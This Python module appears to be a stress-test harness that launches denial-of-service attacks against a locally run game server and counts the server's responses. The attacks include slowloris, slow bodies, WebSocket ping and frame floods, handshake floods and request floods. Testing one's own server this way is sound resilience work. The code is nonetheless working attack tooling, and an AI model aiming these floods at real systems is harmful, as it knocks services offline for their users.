"""The attacks, each from one address, as fast as one process can. What the server does about them is counted."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable, Coroutine
from typing import Any, TypeAlias

from websockets.frames import Frame, Opcode

ADDRESS = "127.0.0.66"
LINES = 300  # connections that an attack tries to hold at once

Attack: TypeAlias = Callable[["Attacker"], Coroutine[Any, Any, None]]


class Attacker:
    """One address, many connections."""

    def __init__(self, port: int, seconds: float, source: str = ADDRESS) -> None:
        self.port = port
        self.until = time.monotonic() + seconds
        self.source = source
        self.counts: Counter[str] = Counter()

    @property
    def going(self) -> bool:
        return time.monotonic() < self.until

    async def line(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        self.counts["connections"] += 1
        return await asyncio.open_connection("127.0.0.1", self.port, local_addr=(self.source, 0))

    async def many(self, work: Callable[[], Coroutine[Any, Any, None]], lines: int = LINES) -> None:
        """Do it over and over in so many places; whatever breaks is begun again."""

        async def again() -> None:
            while self.going:
                try:
                    await asyncio.wait_for(work(), max(0.1, self.until - time.monotonic()))
                except (OSError, asyncio.IncompleteReadError, TimeoutError, ValueError):
                    self.counts["cut off"] += 1
                    await asyncio.sleep(0.02)

        await asyncio.gather(*(again() for _ in range(lines)))

    async def asked(self, method: str, path: str, body: bytes = b"", again: Callable[[], bool] | None = None) -> bytes:
        """A request, and on the same connection the same again as long as that is wished; the last answer's body."""
        reader, writer = await self.line()
        head = f"{method} {path} HTTP/1.1\r\nHost: localhost\r\n"
        if body:
            head += f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
        try:
            while True:
                writer.write(head.encode() + b"\r\n" + body)
                reply = await reader.readuntil(b"\r\n\r\n")
                self.counts[f"status {int(reply.split(b' ', 2)[1])}"] += 1
                lengths = [line for line in reply.lower().split(b"\r\n") if line.startswith(b"content-length:")]
                if not lengths:
                    raise ValueError("an answer of unknown length")
                answer = await reader.readexactly(int(lengths[0].partition(b":")[2]))
                if again is None or not again():
                    return answer
        finally:
            writer.close()

    async def socket(self, id: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A WebSocket at a table, as an onlooker."""
        reader, writer = await self.line()
        writer.write(
            f"GET /api/tables/{id}/socket HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
            "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n".encode()
        )
        head = await reader.readuntil(b"\r\n\r\n")
        if b" 101 " not in head:
            self.counts["handshakes refused"] += 1
            writer.close()
            await asyncio.sleep(0.05)
            raise ConnectionResetError
        writer.write(Frame(Opcode.TEXT, b'{"type":"hello"}').serialize(mask=True))
        return reader, writer

    async def table(self) -> str:
        """A table of one's own to attack."""
        form = {"game": "cardia", "seats": [{"who": "me"}, {"who": "open"}]}
        body = await self.asked("POST", "/api/tables", json.dumps(form).encode())
        found: str = json.loads(body)["table"]["id"]
        return found


async def _trickle(attacker: Attacker, begins: bytes, byte: bytes) -> None:
    """Hundreds of requests that begin so and never end, a byte at a time."""

    async def work() -> None:
        reader, writer = await attacker.line()
        try:
            writer.write(begins)
            while not reader.at_eof():
                writer.write(byte)
                await writer.drain()
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(reader.read(1), 0.5)
            raise ConnectionResetError
        finally:
            writer.close()

    await attacker.many(work)


async def slowloris(attacker: Attacker) -> None:
    """Requests whose head never ends."""
    await _trickle(attacker, b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"X")


async def slow_bodies(attacker: Attacker) -> None:
    """Imports whose body never ends."""
    head = b"POST /api/records HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    await _trickle(attacker, head + b"Content-Length: 400000\r\n\r\n{", b" ")


def _flood(frames: bytes) -> Attack:
    async def attack(attacker: Attacker) -> None:
        id = await attacker.table()

        async def work() -> None:
            reader, writer = await attacker.socket(id)
            try:
                while attacker.going:
                    writer.write(frames)
                    await writer.drain()
                    attacker.counts["floods"] += 1
                    with contextlib.suppress(TimeoutError):
                        if await asyncio.wait_for(reader.read(65536), 0.001) == b"":
                            raise ConnectionResetError
            finally:
                writer.close()

        await attacker.many(work, 40)

    return attack


PINGS = _flood(2000 * Frame(Opcode.PING, b"").serialize(mask=True))
FRAMES = _flood(
    Frame(Opcode.TEXT, b"", fin=False).serialize(mask=True)
    + 2000 * Frame(Opcode.CONT, b"", fin=False).serialize(mask=True)
)
MESSAGES = _flood(500 * Frame(Opcode.TEXT, b'{"type":"ping"}').serialize(mask=True))


async def calculator(attacker: Attacker) -> None:
    """The dearest hands there are, again and again."""
    from bench.abuse.dear import hand

    body = json.dumps(hand()).encode()

    async def work() -> None:
        await attacker.asked("POST", "/api/fantasy-realms/score", body, lambda: attacker.going)

    await attacker.many(work, 20)


async def imports(attacker: Attacker) -> None:
    """Long records to be replayed, again and again."""
    from bench.abuse.dear import record

    body = json.dumps({"record": record()}).encode()

    async def work() -> None:
        await attacker.asked("POST", "/api/records", body, lambda: attacker.going)

    await attacker.many(work, 20)


async def requests(attacker: Attacker) -> None:
    """Anything, as fast as it goes."""

    async def work() -> None:
        await attacker.asked("GET", "/api/tables", again=lambda: attacker.going)

    await attacker.many(work, 50)


async def handshakes(attacker: Attacker) -> None:
    """Sockets that are opened, and say nothing."""
    id = await attacker.table()

    async def work() -> None:
        reader, writer = await attacker.socket(id)
        try:
            while await reader.read(65536):
                pass
            raise ConnectionResetError
        finally:
            writer.close()

    await attacker.many(work)


ALL: dict[str, Attack] = {
    "slowloris": slowloris,
    "slow bodies": slow_bodies,
    "ping flood": PINGS,
    "frame flood": FRAMES,
    "message flood": MESSAGES,
    "handshake flood": handshakes,
    "calculator flood": calculator,
    "import flood": imports,
    "request flood": requests,
}


def main() -> None:
    """`python -m bench.abuse.attacks KIND PORT SECONDS [ADDRESS]`: one attack; tells what became of it."""
    kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    source = sys.argv[4] if len(sys.argv) > 4 else ADDRESS
    os.nice(5)  # it is to cost the server, not the players, who share this machine with it
    with contextlib.suppress(ImportError, OSError, ValueError):
        import resource

        resource.setrlimit(resource.RLIMIT_NOFILE, (4096, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    attacker = Attacker(port, seconds, source)
    with contextlib.suppress(OSError, socket.gaierror):
        asyncio.run(ALL[kind](attacker))
    print(json.dumps(attacker.counts))


if __name__ == "__main__":
    main()
